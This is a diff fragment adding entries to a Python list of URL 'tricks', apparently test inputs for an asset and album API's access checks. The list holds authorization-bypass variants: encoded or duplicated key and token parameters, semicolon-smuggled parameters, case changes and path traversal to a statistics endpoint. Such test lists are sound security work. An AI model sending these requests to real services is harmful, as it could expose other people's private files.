@@ -228,6 +228,7 @@ TRICKS = [
     f"/api/assets/{UUID}?k%65y={KEY}", f"/api/assets/{UUID}?key[]={KEY}", f"/api/assets/{UUID}?key%5b0%5d={KEY}",
     f"/api/assets/{UUID}?x=1;key={KEY}", f"/api/assets/{UUID}?key={KEY}&apiKey=x",
     f"/api/assets/{UUID}?key={KEY}&sessionKey=x", f"/api/assets/{UUID}?key={KEY}&session%4bey=x",
+    f"/api/asset/file/{UUID}?slug=x&userToken=x", f"/api/album/{UUID}?user%54oken=x&slug=x",
     f"/api/assets/{UUID}?key={KEY}&password=x", f"/api/assets/{UUID}/?key={KEY}", f"/api/assets//{UUID}?key={KEY}",
     f"/api/assets/{UUID}/../statistics?key={KEY}", f"/api/assets/{UUID}%2f..%2fstatistics?key={KEY}",
     f"/api/assets/{UUID};x?key={KEY}", f"/api/Assets/{UUID}?key={KEY}", f"/api/assets/{UUID[:-1]}?key={KEY}",
